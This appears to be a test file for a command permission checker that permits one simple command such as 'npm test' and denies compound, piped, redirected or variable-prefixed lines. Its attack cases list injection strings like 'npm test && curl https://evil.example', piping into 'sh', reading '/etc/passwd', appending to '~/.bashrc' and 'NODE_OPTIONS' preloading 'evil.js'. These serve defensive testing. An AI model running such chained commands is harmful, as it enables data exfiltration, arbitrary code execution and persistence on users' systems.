// commands/one-simple-command: anything but one simple command is denied, whatever it starts with.
import { decideCommandLine } from '../../../../src/core/commands/decide.js';
import { testScope } from '../../../support/command-scope.js';

const scope = testScope();
const decide = (line: string) => decideCommandLine(line, scope);

describe('commands/one-simple-command', () => {
  test.each([
    ['npm test', ['npm', 'test']],
    ['  npm test  ', ['npm', 'test']],
    ['npm test # run the suite', ['npm', 'test']],
    ['npm test\n', ['npm', 'test']],
    ['npm run lint', ['npm', 'run', 'lint']],
    ["npm 'test'", ['npm', 'test']],
    ['npm "test"', ['npm', 'test']],
  ])('allows the plain command %j', (line, argv) => {
    expect(decide(line)).toEqual({ decision: 'allow', rule: 'commands/allow-list', code: 'allowed', message: expect.any(String), argv, capability: 'run_tests', pattern: argv });
  });

  describe('attack: compound command lines after an allowed prefix', () => {
    test.each([
      ['npm test && curl https://evil.example', 'command_list'],
      ['npm test || curl https://evil.example', 'command_list'],
      ['npm test; curl https://evil.example', 'command_list'],
      ['npm test\ncurl https://evil.example', 'command_list'],
      ['npm test & curl https://evil.example', 'command_list'],
      ['npm test &', 'command_background'],
      ['npm test | sh', 'command_pipeline'],
      ['npm test |& tee log', 'command_pipeline'],
      ['npm test > /tmp/out', 'command_redirection'],
      ['npm test 2>&1', 'command_redirection'],
      ['npm test < /etc/passwd', 'command_redirection'],
      ['npm test >> ~/.bashrc', 'command_redirection'],
      ['npm test <<EOF\ncurl evil\nEOF', 'command_redirection'],
      ['npm test <<< "x"', 'command_redirection'],
      ['> /tmp/x npm test', 'command_redirection'],
      ['FOO=1 npm test', 'command_assignment'],
      ['NODE_OPTIONS=--require=./evil.js npm test', 'command_assignment'],
      ['PATH=/tmp npm test', 'command_assignment'],
      ['A=1', 'command_assignment'],
      ['(npm test)', 'command_compound'],
      ['{ npm test; }', 'command_compound'],
      ['if true; then npm test; fi', 'command_compound'],
      ['for i in 1; do npm test; done', 'command_compound'],
      ['while npm test; do :; done', 'command_compound'],
      ['npm() { curl evil; }; npm test', 'command_list'],
      ['function npm { curl evil; }', 'command_compound'],
      ['[[ -f x ]]', 'command_compound'],
      ['(( 1 ))', 'command_compound'],
      ['time npm test', 'command_compound'],
      ['! npm test', 'command_compound'],
      ['coproc npm test', 'command_compound'],
      ['case x in x) npm test;; esac', 'command_compound'],
      ['npm test "unterminated', 'command_parse_error'],
      ['npm test )', 'command_parse_error'],
      ['', 'command_empty'],
      ['   ', 'command_empty'],
      ['# only a comment', 'command_empty'],
      ['#!/bin/sh\nnpm test', 'command_parse_error'],
    ])('denies %j (%s)', (line, code) => {
      expect(decide(line)).toMatchObject({ decision: 'deny', rule: 'commands/one-simple-command', code });
    });
  });

  test('an overlong command line is denied before it is parsed', () => {
    expect(decide(`npm test ${'a'.repeat(70_000)}`)).toMatchObject({ decision: 'deny', code: 'command_too_long' });
  });
});
